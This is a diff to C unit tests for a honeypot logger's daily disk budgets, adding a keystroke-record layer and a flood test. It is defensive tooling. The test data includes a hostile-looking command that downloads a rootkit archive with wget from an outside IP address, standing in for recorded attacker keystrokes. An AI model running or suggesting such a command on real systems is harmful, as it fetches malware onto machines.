@@ -1,6 +1,6 @@
 /*
  * Unit tests of the record layers' day budgets (layers_record_take): each
- * of sebek.jsonl, syslog.jsonl, irc.jsonl gets disk_mb / LAYERS_REC_SHARE
+ * of sebek.jsonl, syslog.jsonl, irc.jsonl, keystrokes.jsonl gets disk_mb / LAYERS_REC_SHARE
  * a day; a flood of one (forged Sebek records, syslog lines) is cut at its
  * share, exactly, counted and alerted once that day, and starves neither
  * the other record layers nor the transcripts' budget; a new UTC day
@@ -15,6 +15,7 @@
 #include "config.h"
 #include "decode.h"
 #include "event.h"
+#include "keys.h"
 #include "layers.h"
 #include "sebek.h"
 #include "syslogmsg.h"
@@ -234,12 +235,38 @@ test_sebek_flood(void **state)
 	jb_free(&jb);
 }
 
+/* Keystroke lines (from any source) have their own share too. */
+static void
+test_keystrokes_flood(void **state)
+{
+	struct key_origin o = { .source = "syslog" };
+	const char *line = "wget http://203.0.113.80/rootkit.tar.gz";
+	long one, size;
+	uint64_t fit;
+
+	(void)state;
+	addr_parse("10.0.0.5", &o.honeypot);
+	keys_line(ly, D26, &o, line, strlen(line), NULL, 0);
+	one = file_size("2026-11-26", "keystrokes.jsonl");
+	assert_true(one > 0);
+	fit = SHARE / (uint64_t)one;
+	for (uint64_t i = 1; i < fit + 50; i++)
+		keys_line(ly, D26, &o, line, strlen(line), NULL, 0);
+	size = file_size("2026-11-26", "keystrokes.jsonl");
+	assert_int_equal(size, (long)(fit * (uint64_t)one));
+	assert_int_equal(ly->rec[LREC_KEYS].refused, 50);
+	assert_int_equal(ly->st.keystroke_lines, fit);
+	assert_int_equal(alerts_with("2026-11-26", "\"layer\":\"keystrokes\""), 1);
+	assert_int_equal(ly->rec[LREC_SYSLOG].used, 0);
+}
+
 int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test_setup_teardown(test_syslog_flood, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_sebek_flood, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_keystrokes_flood, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
